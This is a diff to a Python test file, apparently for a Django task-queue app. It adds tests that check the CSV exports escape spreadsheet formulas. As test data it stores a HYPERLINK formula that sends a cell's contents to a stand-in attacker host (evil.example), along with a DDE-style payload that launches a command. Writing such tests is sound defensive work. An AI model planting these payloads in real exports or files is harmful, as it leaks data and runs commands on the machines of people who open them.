@@ -9,6 +9,7 @@ answered 500 to concurrent first requests; an ``=HYPERLINK(…)`` reason written
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -20,6 +21,7 @@ from concurrent.futures import ThreadPoolExecutor
 from datetime import timedelta
 
 import pytest
+from django.test import Client
 from django.utils import timezone
 from rest_framework.exceptions import ParseError
 from rest_framework.throttling import SimpleRateThrottle
@@ -27,9 +29,12 @@ from rest_framework.throttling import SimpleRateThrottle
 from api import errors as errors_module
 from api import parsers, throttling
 from api.views.schema import SchemaApi
+from audit import export
 from tasks.models import Task
+from tasks.states import State
+from tasks.transitions import Actor, advance
 from tenancy.services import token_create
-from tests.conftest import api_client_for
+from tests.conftest import api_client_for, make_task, progress
 
 THREADS = 16
 
@@ -149,3 +154,54 @@ def test_concurrent_first_requests_for_the_schema_all_get_it(live_server, operat
     _, key = token_create(operator, scopes=["read"], expires_at=timezone.now() + timedelta(days=1), name="t")
     answers = concurrently(f"{live_server.url}/api/schema/", [key] * THREADS)
     assert answers == Counter({200: THREADS})
+
+
+# --- formulas in CSV exports ----------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open the invoice")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def csv_cells(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def task_with_formulas(tenant) -> Task:
+    task = make_task(tenant, objective=FORMULA, idempotency_key="@SUM(1+1)*cmd|' /C calc'!A0")
+    return advance(
+        task.id,
+        task.state_version,
+        State.READY,
+        actor=Actor.worker("w1"),
+        progress=progress("s"),
+        reason=FORMULA,
+    )
+
+
+CSV_EXPORTS = {
+    "audit-task": lambda task: f"/console/audit/tasks/{task.id}/export.csv",
+    "audit-search": lambda task: "/console/audit/export.csv",
+    "queue": lambda task: "/console/export.csv",
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("export", CSV_EXPORTS.values(), ids=CSV_EXPORTS.keys())
+def test_no_csv_export_writes_a_cell_a_spreadsheet_would_evaluate(export, acme, operator, auditor):
+    task = task_with_formulas(acme)
+    client = Client()
+    client.force_login(auditor if "audit" in export(task) else operator)
+    rows = csv_cells(client.get(export(task)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], rows
+    assert f"'{FORMULA}" in cells
+
+
+@pytest.mark.django_db
+def test_a_guarded_audit_csv_cell_reads_back_to_the_hashed_text(acme, auditor):
+    task = task_with_formulas(acme)
+    client = Client()
+    client.force_login(auditor)
+    header, *rows = csv_cells(client.get(f"/console/audit/tasks/{task.id}/export.csv"))
+    reasons = [export.cell_text(row[header.index("reason")]) for row in rows]
+    assert FORMULA in reasons
